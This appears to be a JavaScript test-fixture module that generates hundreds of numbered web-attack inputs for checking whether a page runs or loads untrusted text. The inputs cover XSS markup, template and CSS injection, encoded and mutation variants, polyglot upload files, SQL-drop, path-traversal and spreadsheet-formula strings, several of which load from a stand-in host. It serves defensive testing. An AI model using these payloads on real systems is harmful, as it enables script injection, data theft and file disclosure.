// Texts that a careless page would run, load, or break by: what is publicly known of cross-site scripting, template and style injection,
// mutating markup, addresses, letters that turn or hide. Each calls canary(N), or asks for HOST, where it would run or load; a mark at
// its end says which one it is when it is shown as a text.
const host = 'canary.invalid';

// A plain call in every wrapping below.
const calls = ['canary(N)', 'top.canary(N)', 'window[`canary`](N)', 'self["can"+"ary"](N)', "Function('canary(N)')()", 'eval("canary(N)")'];

const markup = [
  '<script>CALL</script>',
  '</script><script>CALL</script>',
  '"><script>CALL</script>',
  "'><script>CALL</script>",
  '</textarea><script>CALL</script>',
  '</title><script>CALL</script>',
  '</style><script>CALL</script>',
  '<scr<script>ipt>CALL</scr</script>ipt>',
  '<ScRiPt>CALL</sCrIpT>',
  '<script\n>CALL</script\n>',
  '<script/x>CALL</script>',
  '<script src=//HOST/N.js></script>',
  '<script src=data:text/javascript,CALL></script>',
  '<script type=module>CALL</script>',
  '<img src=x onerror=CALL>',
  '"><img src=x onerror=CALL>',
  "'><img src=x onerror=CALL>",
  '<img src="x" onerror="CALL">',
  '<img/src=x/onerror=CALL>',
  '<img\tsrc=x\tonerror=CALL>',
  '<IMG SRC=x OnErRoR=CALL>',
  '<img src=x onerror=&#99;anary(N)>',
  '<img srcset="//HOST/N.png 1x">',
  '<image src=x onerror=CALL>',
  '<svg onload=CALL>',
  '<svg/onload=CALL>',
  '<svg><script>CALL</script></svg>',
  '<svg><animate onbegin=CALL attributeName=x dur=1s>',
  '<svg><set attributeName=onload to=CALL>',
  '<svg><a xlink:href="javascript:CALL"><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=CALL>#x">',
  '<svg><foreignObject><iframe srcdoc="<script>parent.canary(N)</script>"></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=CALL>',
  '<math href="javascript:CALL">x</math>',
  '<body onload=CALL>',
  '<body onpageshow=CALL>',
  '<html onmouseover=CALL>',
  '<input autofocus onfocus=CALL>',
  '<select autofocus onfocus=CALL>',
  '<textarea autofocus onfocus=CALL>',
  '<keygen autofocus onfocus=CALL>',
  '<video src=x onerror=CALL>',
  '<video><source onerror=CALL></video>',
  '<audio src=x onerror=CALL>',
  '<details open ontoggle=CALL>x</details>',
  '<marquee onstart=CALL>x</marquee>',
  '<meter onmouseover=CALL>0</meter>',
  '<object data="javascript:CALL">',
  '<object data="//HOST/N.swf">',
  '<embed src="javascript:CALL">',
  '<embed src="//HOST/N.swf">',
  '<iframe src="javascript:parent.canary(N)"></iframe>',
  '<iframe srcdoc="<script>parent.canary(N)</script>"></iframe>',
  '<iframe src=//HOST/N></iframe>',
  '<form action=javascript:CALL><input type=submit autofocus onfocus=CALL></form>',
  '<button formaction=javascript:CALL autofocus onfocus=CALL>x</button>',
  '<isindex type=image src=1 onerror=CALL>',
  '<link rel=stylesheet href=//HOST/N.css>',
  '<link rel=prefetch href=//HOST/N>',
  '<link rel=import href="data:text/html,<script>CALL</script>">',
  '<meta http-equiv=refresh content="0;url=javascript:CALL">',
  '<meta http-equiv=refresh content="0;url=//HOST/N">',
  '<base href=//HOST/>',
  '<style>@import "//HOST/N.css";</style>',
  '<style>*{background:url(//HOST/N.png)}</style>',
  '<div style="background:url(//HOST/N.png)">x</div>',
  '<div style="width:expression(CALL)">x</div>',
  '<div style="position:fixed;inset:0;z-index:9999;background:#fff">x</div>',
  '<table background=//HOST/N.png><td>x</td></table>',
  '<a href="javascript:CALL" autofocus onfocus=CALL>x</a>',
  '<a href="jAvAsCrIpT&colon;CALL">x</a>',
  '<a href="java\tscript:CALL">x</a>',
  '<a href="data:text/html,<script>CALL</script>">x</a>',
  '<a href="vbscript:CALL">x</a>',
  '<x onclick=CALL tabindex=1 id=x autofocus onfocus=CALL>x</x>',
  '<dialog open onclose=CALL><form method=dialog><button>x</button></form></dialog>',
  '<template><script>CALL</script></template>',
  '<template shadowrootmode=open><script>CALL</script></template>',
  '<portal src=//HOST/N></portal>',
  '<bgsound src=//HOST/N.wav>',
  '<frameset onload=CALL><frame></frameset>',
  '<applet code=//HOST/N></applet>',
  '<plaintext>x<script>CALL</script>',
  '<xmp><p title="</xmp><svg/onload=CALL>">',
  '<noscript><p title="</noscript><img src=x onerror=CALL>">',
  '<noembed><img title="</noembed><img src=x onerror=CALL>"></noembed>',
  '<listing>&lt;img src=x onerror=CALL&gt;</listing>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=CALL>',
  '<svg></p><style><a id="</style><img src=1 onerror=CALL>">',
  '<svg><style><!--</style><img src=x onerror=CALL>--></style></svg>',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=CALL></style></annotation-xml></math>',
  '<!--><img src=x onerror=CALL>-->',
  '<!-- --!><img src=x onerror=CALL> -->',
  '<![CDATA[><img src=x onerror=CALL>]]>',
  '<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">CALL</script>',
  '<?php echo "<script>CALL</script>" ?>',
  '<%= "<script>CALL</script>" %>',
];
// What stands inside of an attribute, a script or an address already.
const inside = [
  '" autofocus onfocus=CALL x="',
  "' autofocus onfocus=CALL x='",
  '` onmouseover=CALL `',
  '" style="animation-name:x" onanimationstart="CALL',
  '"; CALL; //',
  "'; CALL; //",
  '\\"; CALL; //',
  '`; CALL; `',
  '</script>CALL',
  '");CALL;("',
  "-CALL-'",
  '*/CALL/*',
  '\u2028CALL\u2029',
  'javascript:CALL',
  'JaVaScRiPt:CALL',
  'java\nscript:CALL',
  '\u0001javascript:CALL',
  'javascript://%0aCALL',
  'javascript:/*--></title></style></textarea></script><svg/onload=CALL>',
  'data:text/html,<script>CALL</script>',
  'data:text/html;base64,BASE64',
  'data:image/svg+xml,<svg onload=CALL>',
  'vbscript:CALL',
  'view-source:javascript:CALL',
  'feed:javascript:CALL',
  'blob:CALL',
  '//HOST/N',
  'https://HOST/N',
  '\\\\HOST\\N',
  'https:HOST/N',
  'https://user:pass@HOST/N',
  'x" src="//HOST/N.png',
];
const templates = [
  '{{CALL}}',
  '{{constructor.constructor("CALL")()}}',
  "{{$on.constructor('CALL')()}}",
  '{{_openBlock.constructor("CALL")()}}',
  "{{''.constructor.prototype.charAt=[].join;$eval('x=CALL')}}",
  '${CALL}',
  '#{CALL}',
  '<%= CALL %>',
  '[[${CALL}]]',
  '{%raw%}CALL{%endraw%}',
  '@{CALL}',
  '*{CALL}',
  '<div v-html="\'<img src=x onerror=CALL>\'">',
  '<div ng-app ng-csp>{{CALL}}</div>',
  '<div x-data x-init="CALL">',
  '<div data-bind="html: CALL">',
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=CALL>"}}',
  '{"__proto__":{"innerHTML":"<img src=x onerror=CALL>"}}',
  'constructor',
  '__proto__',
  'toString',
  'hasOwnProperty',
];
const styles = [
  '}*{background:url(//HOST/N.png)}',
  '</style><style>*{display:none}',
  'red;background:url(//HOST/N.png)',
  '@import "//HOST/N.css";',
  'expression(CALL)',
  '-moz-binding:url(//HOST/N.xml#x)',
  'url(javascript:CALL)',
  ';position:fixed;inset:0;z-index:99999',
];
const encoded = [
  '%3Cscript%3ECALL%3C/script%3E',
  '%253Cscript%253ECALL%253C/script%253E',
  '&lt;script&gt;CALL&lt;/script&gt;',
  '&#60;script&#62;CALL&#60;/script&#62;',
  '&amp;lt;img src=x onerror=CALL&amp;gt;',
  '\\u003cscript\\u003eCALL\\u003c/script\\u003e',
  '\\x3cscript\\x3eCALL\\x3c/script\\x3e',
  '+ADw-script+AD4-CALL+ADw-/script+AD4-',
  '¼script¾CALL¼/script¾',
  '＜script＞CALL＜/script＞',
  '‹img src=x onerror=CALL›',
  '<\u0000script>CALL</script>',
  '<scr\u0000ipt>CALL</script>',
  '<img src=x one\u200brror=CALL>',
  '\u00a0<script>CALL</script>',
  '\ufeff<script>CALL</script>',
  '<script>CALL</script',
  '<img src=x onerror=CALL//',
  '<<script>CALL//<</script>',
  '<img """><script>CALL</script>">',
  '<a\fhref=javascript:CALL>x</a>',
];
const letters = [
  '\u202Egnp.exe.photo',
  '\u202Dabc\u202E def \u202C ghi',
  '\u2066\u2067\u2068 isolates \u2069',
  'م'.repeat(40) + ' abc',
  'שלום <b>abc</b> שלום',
  'a\u200b\u200c\u200d\u2060b'.repeat(12),
  'Z\u0310\u0302\u0306a\u0315\u0342l\u0336\u0347g\u035c\u0321o\u0334'.repeat(4),
  'e' + '\u0301'.repeat(60),
  '👩‍👩‍👧‍👦'.repeat(12),
  '🏴\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}',
  '𝒜𝓁𝑒𝓇𝓉 𝕏𝕊𝕊',
  'ﷺ'.repeat(12),
  '꧅'.repeat(12),
  'W'.repeat(150),
  'слово'.repeat(30),
  'https://example.com/' + 'a'.repeat(120),
  '\t\t\ttabs\t\tand\nnew\r\nlines\n\n\n\n',
  '.'.repeat(100),
  '−'.repeat(100),
  "'; DROP TABLE lead; --",
  '=HYPERLINK("https://HOST/N","x")',
  '=cmd|calc!A0',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'CON',
  'null',
  'undefined',
  'NaN',
  'true',
  '0',
  '[object Object]',
  '%s%n%x%d',
  '\\',
  '"',
  "'",
  '`',
  '<',
  '>',
  '&',
  '&nbsp;',
];

/// Of payload N: [N], which no page writes by itself.
export const mark = n => `⟦${n}⟧`;
const made = [];
const add = list => {
  for (const one of list) made.push(one);
};
add(markup.map((t, i) => t.replaceAll('CALL', calls[i % 2 ? 0 : i % calls.length])));
add(inside.map(t => t.replaceAll('CALL', calls[0])));
add(templates.map(t => t.replaceAll('CALL', calls[0])));
add(styles.map(t => t.replaceAll('CALL', calls[0])));
add(encoded.map(t => t.replaceAll('CALL', calls[0])));
add(letters);
// The handlers by themselves: each starts without anybody's doing where it is taken for markup.
const handlers = ['onload', 'onerror', 'onfocus', 'onfocusin', 'onbegin', 'ontoggle', 'onanimationstart', 'onanimationend'];
handlers.push('ontransitionrun', 'onpointerover', 'onmouseenter', 'onscroll', 'onwheel', 'onbeforetoggle', 'onloadstart', 'oncanplay');
for (const handler of handlers)
  for (const tag of ['svg', 'img src=x', 'input autofocus', 'video src=x autoplay', 'style', 'div tabindex=0 contenteditable'])
    made.push(`<${tag} ${handler}=${calls[0]}>`);
for (const tag of ['a', 'b', 'p', 'div', 'table', 'li', 'h1', 'label'])
  for (const wrap of ['"><TAG onmouseover=CALL style=position:fixed;inset:0>x</TAG>', '<TAG/autofocus/tabindex=0/onfocus=CALL>x</TAG>'])
    made.push(wrap.replaceAll('TAG', tag).replaceAll('CALL', calls[0]));

export const payloads = made.map((text, n) =>
  text
    .replaceAll('(N)', `(${n})`)
    .replaceAll('BASE64', Buffer.from(`<script>canary(${n})</script>`).toString('base64'))
    .replaceAll('HOST/N', `${host}/${n}`)
    .replaceAll('HOST', host)
    .replaceAll('\\N', `\\${n}`)
    .concat(' ', mark(n)),
);

const svg = n =>
  `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="canary(${n})"><script>top.canary(${n});canary(${n})</script>` +
  `<image href="https://${host}/${n}.png"/></svg>`;
const html = n => `<!DOCTYPE html><html><body onload="canary(${n})"><script>canary(${n})</script><img src=https://${host}/${n}></body></html>`;
const gif = n => `GIF89a/*${'\0'.repeat(6)}*/=1;canary(${n})//<script>canary(${n})</script>`;
/// Files that are not what their name or their sender says: [name, type claimed, bytes]. `picture` is a good PNG.
export const files = picture =>
  [
    n => [`car${n}.svg`, 'image/svg+xml', svg(n)],
    n => [`car${n}.png`, 'image/png', svg(n)],
    n => [`car${n}.jpg`, 'image/jpeg', html(n)],
    n => [`car${n}.html`, 'text/html', html(n)],
    n => [`car${n}.htm.png`, 'image/png', html(n)],
    n => [`car${n}.gif`, 'image/gif', gif(n)],
    n => [`car${n}.png`, 'image/png', Buffer.concat([picture, Buffer.from(html(n))])],
    n => [`car${n}.png`, 'text/html', Buffer.concat([picture, Buffer.from(html(n))])],
    n => [`car${n}.xml`, 'application/xml', `<?xml-stylesheet type="text/xsl" href="https://${host}/${n}"?>` + svg(n)],
    n => [`car${n}.xhtml`, 'application/xhtml+xml', html(n)],
    n => [`car${n}.pdf`, 'application/pdf', `%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(${n}))>>>>endobj\n${html(n)}`],
    n => [`car${n}.js`, 'text/javascript', `canary(${n})`],
    n => [`car${n}.css`, 'text/css', `*{background:url(https://${host}/${n})}`],
    n => [`car${n}.mht`, 'message/rfc822', `MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${html(n)}`],
    n => [`car${n}.txt`, 'text/plain', html(n)],
    n => [`car${n}.png`, 'image/png', '\ufeff' + html(n)],
    n => [`car${n}.jpg`, 'image/jpeg', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from(html(n))])],
    n => [`car${n}.webp`, 'image/webp', `RIFF\0\0\0\0WEBP${html(n)}`],
    n => [`car${n}.zip`, 'application/zip', `PK\x03\x04${html(n)}`],
    n => [`car${n}.json`, 'application/json', `{"x":"${html(n).replaceAll('"', "'")}"}`],
  ].map((make, i) => make(payloads.length + i));
